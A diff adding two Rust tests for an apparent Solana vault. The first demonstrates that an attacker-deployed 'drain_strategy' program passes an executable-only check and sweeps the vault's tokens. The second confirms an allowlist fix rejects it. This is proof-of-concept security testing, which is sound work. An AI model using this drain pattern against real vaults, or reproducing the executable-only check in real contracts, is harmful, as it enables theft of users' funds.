@@ -0,0 +1,47 @@
+#[tokio::test]
+async fn test_attacker_program_passes_executable_check_exploit() {
+    println!("\n=== EXPLOIT: Attacker Program Accepted As Strategy ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(1_000_000).await;
+
+    println!("1. Mallory deploys a program that sweeps the given token account");
+    let drain_program = deploy_program(&mallory, "drain_strategy.so").await;
+    assert!(get_account(&drain_program).await.executable);
+
+    println!("\n2. rebalance with target_program = her program");
+    let mallory_token = create_token_account(&mallory.pubkey()).await;
+    // Vulnerable: executable is the only requirement
+    rebalance(&vault, &drain_program, &mallory, &[mallory_token]).await.unwrap();
+
+    assert_eq!(get_token_balance(&vault.vault_token).await, 0);
+    assert_eq!(get_token_balance(&mallory_token).await, 1_000_000);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Vault authority signed for Mallory's program");
+}
+
+#[tokio::test]
+async fn test_strategy_allowlist_enforced() {
+    println!("\n=== SECURITY: Strategy Must Be Allowlisted ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(1_000_000).await;
+
+    println!("1. Executable, upgradeable-loader-owned, not on the list");
+    let drain_program = deploy_program(&mallory, "drain_strategy.so").await;
+    let mallory_token = create_token_account(&mallory.pubkey()).await;
+    let result = rebalance(&vault, &drain_program, &mallory, &[mallory_token]).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: StrategyNotApproved");
+
+    println!("\n2. Native program (owned by the native loader)");
+    let result = rebalance(&vault, &system_program::ID, &mallory, &[]).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: UnexpectedProgramOwner");
+
+    println!("\n3. Approved strategy");
+    rebalance(&vault, &APPROVED_STRATEGIES[0], &mallory, &strategy_accounts(0)).await.unwrap();
+    assert_eq!(get_token_balance(&vault.vault_token).await, 1_000_000);
+    println!("   ✓ Rebalance ran; vault balance intact");
+}